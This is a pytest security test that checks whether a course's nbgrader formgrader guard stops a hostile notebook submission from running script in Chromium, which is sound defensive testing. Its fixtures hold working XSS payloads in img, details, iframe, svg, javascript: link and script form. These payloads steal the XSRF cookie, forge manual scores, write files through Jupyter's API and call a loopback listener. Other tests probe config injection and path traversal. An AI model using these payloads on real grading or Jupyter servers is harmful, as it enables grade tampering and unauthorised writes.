"""Formgrader on a hostile submission, in real headless Chromium (grader/term/formgrader_guard.py).

One lab-00 submission is graded once with the course's grader: its written answer holds HTML that
runs script in a browser in several ways and its code cell displays text/html, JavaScript and SVG
outputs with script. Every payload, if it ran, would mark the page, call a loopback listener,
write a file through Jupyter's contents API and set manual scores through formgrader's API. The
same payloads on a page of the test's own (no guard) must do all of that: the harness can fail.
"""

from __future__ import annotations

import html
import json
import os
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import nbformat
import pytest
from chromium import needs_chromium

REPO = Path(__file__).resolve().parents[1]
LAB = "00_getting_started"
NOTEBOOK = "getting_started.ipynb"
TOKEN = "browser-test-token-7f3a"
WAIT_S = 2  # how long a page is given for its payloads to act

pytestmark = needs_chromium  # the browser fixture: tests/conftest.py


def payload_js(name: str, port: int) -> str:
    """What a payload does if it runs: JavaScript with neither double quotes nor <, > or &, so it
    fits in an HTML attribute, a javascript: URL or an escaped srcdoc unchanged."""
    return (f"top.document.documentElement.setAttribute('data-ran-{name}','1');"
            f"fetch('http://127.0.0.1:{port}/{name}',{{mode:'no-cors'}});"
            "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1];"
            "fetch('/formgrader/api/grades?submission_id='+top.submission_id)"
            ".then(function(r){return r.json()}).then(function(g){g.forEach(function(e){"
            "fetch('/formgrader/api/grade/'+e.id,{method:'PUT',headers:{'X-XSRFToken':x},"
            "body:JSON.stringify({manual_score:0.5})})})});"
            f"fetch('/api/contents/ran_{name}.txt',{{method:'PUT',headers:{{'X-XSRFToken':x,"
            f"'Content-Type':'application/json'}},body:JSON.stringify({{type:'file',"
            f"format:'text',content:'{name}'}})}})")


def markdown_payloads(port: int) -> dict[str, str]:
    """Written-answer HTML, each piece running ``payload_js`` its own way."""
    js = {name: payload_js(name, port) for name in ("img", "details", "iframe", "svg", "link",
                                                    "script")}
    return {
        "img": f'<img src="x" onerror="{js["img"]}">',
        "details": f'<details open ontoggle="{js["details"]}"><summary>s</summary>d</details>',
        "iframe": f'<iframe srcdoc="{html.escape("<script>" + js["iframe"] + "</script>")}">'
                  "</iframe>",
        "svg": f'<svg onload="{js["svg"]}"></svg>',
        "link": f'<a id="hostile-link" href="javascript:{js["link"]}">open</a>',
        "script": f"<script>{js['script']}</script>",
    }


def output_code(port: int) -> tuple[str, list[str]]:
    """Code displaying hostile outputs (text/html, application/javascript, image/svg+xml)."""
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{payload_js("svgout", port)}">'
           f"<script>{payload_js('svgscript', port)}</script></svg>")
    code = ("\nfrom IPython.display import HTML, SVG, Javascript, display\n"
            f"display(HTML({('<script>' + payload_js('htmlout', port) + '</script>')!r}))\n"
            f"display(Javascript({payload_js('jsout', port)!r}))\n"
            f"display(SVG({svg!r}))\n")
    return code, ["htmlout", "jsout", "svgout", "svgscript"]


class Listener(ThreadingHTTPServer):
    """A loopback HTTP server recording every path asked for; it serves ``page`` at /control."""

    def __init__(self, page: str = ""):
        self.paths: list[str] = []
        self.page = page.encode()
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                listener.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(listener.page if self.path == "/control" else b"")

            do_PUT = do_POST = do_GET

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def port(self) -> int:
        return self.server_address[1]


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.fixture(scope="module")
def listener():
    server = Listener()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def course(tmp_path_factory, listener):
    """A course with one graded lab-00 submission, 'hostile': the solution plus the payloads."""
    base = tmp_path_factory.mktemp("formgrader")
    root = base / "course"
    root.mkdir()
    shutil.copyfile(REPO / "course.toml", root / "course.toml")
    for folder in ("solutions", "labs"):
        shutil.copytree(REPO / folder, root / folder)
    nb = nbformat.read(REPO / "solutions" / LAB / NOTEBOOK, as_version=4)
    by_id = {c.metadata.get("nbgrader", {}).get("grade_id"): c for c in nb.cells}
    by_id["softmax_question"].source = "\n\n".join(markdown_payloads(listener.port).values())
    code, _ = output_code(listener.port)
    by_id["softmax"].source += code
    incoming = base / "incoming" / "hostile" / LAB
    incoming.mkdir(parents=True)
    nbformat.write(nb, incoming / NOTEBOOK)
    done = subprocess.run([sys.executable, "-m", "grader", "--course", str(root), "grade",
                           str(base / "incoming"), "--lab", LAB], capture_output=True, text=True,
                          timeout=600)
    assert done.returncode == 0, done.stdout + done.stderr[-3000:]
    autograded = nbformat.read(root / "course_work" / "autograded" / "hostile" / LAB / NOTEBOOK, 4)
    mimes = {m for c in autograded.cells for o in c.get("outputs", []) for m in o.get("data", {})}
    assert {"text/html", "application/javascript", "image/svg+xml"} <= mimes, mimes
    listener.paths.clear()  # grading ran no browser; from here on only Chromium can call it
    return root


def serve(command: list[str], cwd: Path | None = None, env: dict | None = None):
    """Start a formgrader server, wait until it answers; its URL and process id."""
    port = free_port()
    process = subprocess.Popen([*command, f"--port={port}"], cwd=cwd, env=env, text=True,
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    for _ in range(120):
        try:
            urllib.request.urlopen(f"{url}/api/status?token={TOKEN}", timeout=5)
            break
        except OSError:
            time.sleep(0.5)
    return {"url": url, "pid": process.pid, "process": process}


def stop(server) -> None:
    server["process"].terminate()
    server["process"].communicate(timeout=30)


@pytest.fixture(scope="module")
def server(course):
    """`python -m grader formgrade` on a free loopback port, as the instructor starts it."""
    started = serve([sys.executable, "-m", "grader", "--course", str(course), "formgrade",
                     "--token", TOKEN])
    yield started
    stop(started)


@pytest.fixture(scope="module")
def policy_only_server(course, server):
    """The same server with the course's sanitiser left out of its configuration: the script
    policy alone must keep every payload from running."""
    from grader.nbgrader_run import with_venv_path
    from grader.term.formgrade import server_command

    shipped = course / "course_work" / "formgrader"
    folder = course / "course_work" / "formgrader-policy-only"
    folder.mkdir()
    lines = (shipped / "nbgrader_config.py").read_text().splitlines(keepends=True)
    (folder / "nbgrader_config.py").write_text(
        "".join(line for line in lines if not line.startswith("c.HTMLExporter")))
    shutil.copyfile(shipped / "jupyter_server_config.py", folder / "jupyter_server_config.py")
    command = [c for c in server_command(folder, "127.0.0.1", 0) if "--ServerApp.port=" not in c]
    started = serve(command, cwd=folder, env={**with_venv_path(os.environ), "JUPYTER_TOKEN": TOKEN})
    yield started
    stop(started)


def ran(driver) -> list[str]:
    """The payloads that marked the page shown."""
    return sorted(a[len("data-ran-"):] for a in driver.execute_script(
        "return Array.from(document.documentElement.attributes, a => a.name)")
        if a.startswith("data-ran-"))


def manual_scores(course: Path) -> list:
    with sqlite3.connect(course / "course_work" / "gradebook.db") as db:
        return db.execute("SELECT id, manual_score FROM grade ORDER BY id").fetchall()


def api(server, path: str, method: str = "GET", body: bytes | None = None):
    request = urllib.request.Request(server["url"] + path, data=body, method=method,
                                     headers={"Authorization": f"token {TOKEN}"})
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()


def test_the_payloads_run_on_an_unguarded_page(browser, listener):
    """Positive control: the same payloads, on a plain page served by the listener, all run."""
    code, outputs = output_code(listener.port)
    scripts = "".join(f"<script>{payload_js(n, listener.port)}</script>" for n in outputs)
    listener.page = ("<html><body>" + "".join(markdown_payloads(listener.port).values())
                     + scripts + "</body></html>").encode()
    browser.get(f"http://127.0.0.1:{listener.port}/control")
    time.sleep(WAIT_S)
    browser.find_element("id", "hostile-link").click()
    time.sleep(1)
    expected = sorted([*markdown_payloads(listener.port), *outputs])
    assert ran(browser) == expected
    assert {p.lstrip("/") for p in listener.paths} >= set(expected)
    listener.paths.clear()


@pytest.mark.parametrize("which", ["server", "policy_only_server"])
def test_no_payload_runs_in_any_formgrader_view(which, course, browser, listener, request):
    server = request.getfixturevalue(which)
    scores = manual_scores(course)
    browser.get(f"{server['url']}/formgrader?token={TOKEN}")
    status, body = api(server, f"/formgrader/api/submitted_notebooks/{LAB}/getting_started")
    submission = json.loads(body)[0]["id"]
    views = [f"/formgrader/submissions/{submission}/", "/formgrader/manage_assignments",
             f"/formgrader/manage_submissions/{LAB}", "/formgrader/gradebook",
             f"/formgrader/gradebook/{LAB}", f"/formgrader/gradebook/{LAB}/getting_started",
             "/formgrader/manage_students", "/formgrader/manage_students/hostile",
             f"/formgrader/manage_students/hostile/{LAB}",
             f"/nbconvert/html/autograded/hostile/{LAB}/{NOTEBOOK}"]
    for view in views:
        browser.get(server["url"] + view)
        time.sleep(WAIT_S if "submissions/" in view else 0.5)
        assert ran(browser) == [], view
    browser.get(server["url"] + views[0])
    assert "softmax_question" in browser.page_source, "the submission view shows the notebook"
    unsanitised = "ontoggle" in browser.page_source
    assert unsanitised == (which == "policy_only_server"), "the sanitiser runs in the shipped one"
    browser.find_element("id", "hostile-link").click()
    time.sleep(1)
    assert ran(browser) == []
    assert listener.paths == [], "a payload called the listener"
    assert manual_scores(course) == scores, "a payload changed a score"
    assert not list((course / "course_work").rglob("ran_*")), "a payload wrote a file"


def test_the_courses_feedback_page_runs_nothing(course, browser, listener):
    """`grade` wrote the hostile student's feedback through grader/term/feedback.py: sanitised, under a
    policy forbidding scripts; opened in Chromium, no payload runs."""
    page = course / "course_work" / "feedback" / "hostile" / LAB / NOTEBOOK.replace(".ipynb", ".html")
    text = page.read_text()
    assert "hostile-link" in text, "the page shows the written answer"
    assert "Content-Security-Policy" in text and "default-src 'none'" in text
    browser.get(page.as_uri())
    time.sleep(WAIT_S)
    assert ran(browser) == [] and listener.paths == []


def test_formgraders_own_ui_still_grades(course, server, browser):
    """A manual score typed in the submission view reaches the gradebook (its scripts run)."""
    from selenium.webdriver.common.keys import Keys

    status, body = api(server, f"/formgrader/api/submitted_notebooks/{LAB}/getting_started")
    browser.get(f"{server['url']}/formgrader/submissions/{json.loads(body)[0]['id']}/")
    field = browser.find_element("id", "softmax_question")
    for _ in range(20):  # formgrader's scripts fill the field once they have loaded the grades
        if field.get_attribute("value") != "":
            break
        time.sleep(0.25)
    field.clear()
    field.send_keys("1", Keys.TAB)
    time.sleep(1)
    assert [s for _, s in manual_scores(course) if s is not None] == [1]


def test_the_login_page_still_logs_in(server, browser):
    """Without the token in the URL, Jupyter's login form (no script) still lets the token in."""
    from selenium.webdriver.common.keys import Keys

    browser.delete_all_cookies()
    browser.get(f"{server['url']}/formgrader/manage_assignments")
    assert "/login" in browser.current_url
    browser.find_element("id", "password_input").send_keys(TOKEN, Keys.ENTER)
    time.sleep(1)
    assert browser.current_url.endswith("/formgrader/manage_assignments"), browser.current_url


@pytest.mark.parametrize("path", [
    f"/formgrader/api/assignment/{LAB}/generate_feedback",
    f"/formgrader/api/assignment/{LAB}/hostile/generate_feedback",
    f"/formgrader/api/assignment/{LAB}/release_feedback",
    f"/formgrader/api/submission/{LAB}/hostile/autograde",
    f"/formgrader/api/assignment/{LAB}/assign",
    f"/formgrader/api/assignment/{LAB}/release",
    f"/formgrader/api/assignment/{LAB}/collect",
])
def test_actions_that_skip_the_course_rules_are_refused(course, server, path):
    feedback = course / "course_work" / "feedback"
    before = sorted(feedback.rglob("*")) if feedback.exists() else []
    status, body = api(server, path, "POST", b"")
    assert status == 403 and b"python -m grader" in body, (status, body)
    assert (sorted(feedback.rglob("*")) if feedback.exists() else []) == before


def test_formgrader_loads_no_configuration_from_elsewhere(server, tmp_path):
    """`/formgrader?path=DIR` would run DIR/nbgrader_config.py (a GET an image could make)."""
    marker = tmp_path / "config-ran"
    (tmp_path / "nbgrader_config.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    assert api(server, f"/formgrader?path={tmp_path}")[0] == 403
    assert not marker.exists()
    assert api(server, "/formgrader/manage_assignments")[0] == 200


def test_server_has_no_token_in_ps_no_terminals_and_only_course_work(course, server):
    args = subprocess.run(["ps", "-ww", "-o", "args=", "-p", str(server["pid"])],
                          capture_output=True, text=True).stdout
    assert "jupyter-server" in args and TOKEN not in args, args
    assert api(server, "/api/terminals")[0] in (403, 404)
    assert api(server, "/api/terminals", "POST", b"")[0] in (403, 404)
    assert api(server, "/api/kernels", "POST", b"{}")[0] == 403
    assert api(server, "/lab")[0] == 404, "no other Jupyter application"
    status, body = api(server, "/api/contents")
    assert status == 200 and {e["name"] for e in json.loads(body)["content"]} >= {"autograded"}
    assert api(server, "/api/contents/../course.toml")[0] in (400, 403, 404)
    assert api(server, "/files/../course.toml")[0] in (400, 403, 404)
    put = json.dumps({"type": "file", "format": "text", "content": "x"}).encode()
    assert api(server, "/api/contents/written.txt", "PUT", put)[0] == 403
    assert not (course / "course_work" / "written.txt").exists()
